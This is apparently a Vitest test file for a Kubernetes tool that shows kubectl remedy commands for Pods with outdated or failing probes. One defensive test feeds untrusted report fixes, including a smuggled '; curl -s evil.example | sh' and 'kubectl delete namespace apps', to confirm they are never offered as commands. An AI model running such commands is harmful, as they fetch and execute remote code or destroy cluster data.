import { describe, expect, it } from 'vitest';
import { failingResults } from '../../../src/observer/failing/failing-results.ts';
import { missedResults as resultsOfPods } from '../../../src/observer/missed/missed-probes.ts';
import { reportContent, reportObject } from '../../../src/observer/reports/report-object.ts';
import { liveFindings } from '../../../src/explain/fleet-page/live-findings.ts';
import { readObserverReport, REPORT_APIS } from '../../../src/cluster/sources/observer-reports.ts';
import type { JsonObject } from '../../../src/base/json/json-value.ts';
import type { ReportResult } from '../../../src/observer/reports/report-result.ts';

const web = { namespace: 'apps', group: 'apps', kind: 'Deployment', name: 'web' };

function missedResults(): readonly ReportResult[] {
  const pod = { workload: web, missed: { cause: 'outdated', sources: ['ProbePolicy/apps/static'] } } as const;
  return resultsOfPods([pod, pod]).flatMap(([, results]) => results);
}

const FAILING = failingResults({
  workload: web,
  failures: [{ container: 'app', probe: 'readinessProbe', cause: 'http-404', described: undefined }],
  shared: { since: Date.parse('2026-11-20T10:00:00Z'), count: 1, byNamespace: new Map([['apps', [web]]]) },
});

/** A report as the observer writes it. */
function reportOf(results: readonly ReportResult[], api = REPORT_APIS[0]): JsonObject {
  if (api === undefined) throw new Error('there is no API');
  const workload = { ...web, apiVersion: 'apps/v1', uid: '1' };
  const judged = { workload, results: [], passed: 0 } as unknown as Parameters<typeof reportContent>[0];
  return reportObject(reportContent(judged, results), api, undefined, 1) as JsonObject;
}

describe('what an observer found in live Pods', () => {
  it('is shown with the Pods, the policies and the command', () =>
    expect(liveFindings(missedResults(), web)).toEqual([
      {
        name: 'missed-pods',
        message: 'Pods have other probes than new Pods get: the policy has changed since they were created',
        facts: ['Pods: 2', 'from: ProbePolicy/apps/static'],
        pods: 2,
        command: 'kubectl rollout restart deployment/web -n apps',
      },
    ]));

  it('is shown with the step that works where a restart replaces no Pod, and no command that does nothing', () => {
    const [finding] = liveFindings(missedResults(), { ...web, hold: 'paused' });
    expect([finding?.command, finding?.remedy]).toEqual([undefined, expect.stringContaining('kubectl rollout resume')]);
  });

  it('is shown without what the message has, and with the workloads that fail together', () => {
    const [shared, own] = liveFindings(FAILING, web);
    expect(shared?.facts).toEqual(['since: 2026-11-20T10:00:00.000Z', 'workloads: Deployment apps/web']);
    expect(shared?.remedy).toMatch(/^Check what/);
    expect(own?.message).toBe('container "app": its readinessProbe gets HTTP status 404');
    expect(own?.remedy).toMatch(/^Set /);
    expect([shared, own].map((finding) => [finding?.name, finding?.pods, finding?.command])).toEqual([
      ['probe-failing', 0, undefined],
      ['probe-failing', 0, undefined],
    ]);
  });

  it.each(REPORT_APIS)('is the same from a report of $name', (api) => {
    const results = [...missedResults(), ...FAILING];
    const observed = readObserverReport(reportOf(results, api));
    expect({ ...observed, results: undefined }).toEqual({
      apiVersion: 'apps/v1',
      kind: 'Deployment',
      namespace: 'apps',
      name: 'web',
      results: undefined,
    });
    const byText = (findings: ReturnType<typeof liveFindings>): string[] =>
      findings.map((each) => JSON.stringify(each)).sort();
    expect(byText(liveFindings(observed?.results ?? [], web))).toEqual(byText(liveFindings(results, web)));
  });

  it.each([
    'kubectl delete namespace apps',
    'kubectl rollout restart deployment/other -n apps',
    'kubectl rollout restart deployment/web -n apps; curl -s evil.example | sh',
    'Kubectl rollout restart deployment/web -n apps',
  ])('has no command when a report says "%s"', (fix) => {
    const [finding] = liveFindings([{ rule: 'missed-pods', message: 'm', properties: { fix } }], web);
    expect(finding).toEqual({ name: 'missed-pods', message: 'm', remedy: fix, pods: 0 });
  });

  it('is shown once when both report APIs have it', () =>
    expect(liveFindings([...missedResults(), ...missedResults()], web)).toHaveLength(1));

  it.each(['1e999', '-1', '2.5', 'x', ''])('has no Pods when the number of Pods is "%s"', (pods) =>
    expect(liveFindings([{ rule: 'missed-pods', message: 'm', properties: { pods } }], web)[0]?.pods).toBe(0),
  );

  it('is not read from results of checks, from results of other tools, and from what is no report', () => {
    const report = reportOf(missedResults());
    const [result] = report['results'] as [JsonObject];
    const withResults = (results: unknown): JsonObject => ({ ...report, results });
    for (const object of [
      withResults([{ ...result, rule: 'named-port' }]),
      withResults([{ ...result, source: 'kyverno' }]),
      withResults([{ ...result, message: 1 }]),
      withResults([null, 1, 'text', []]),
      withResults({ ...result }),
      { ...report, scope: undefined },
      { ...report, scope: { kind: 'Deployment' } },
      { ...report, kind: 'ClusterReport' },
      { ...report, metadata: { name: 'forged', namespace: 'tenant' } },
      { ...report, metadata: undefined },
    ])
      expect(readObserverReport(object)).toBeUndefined();
  });
});
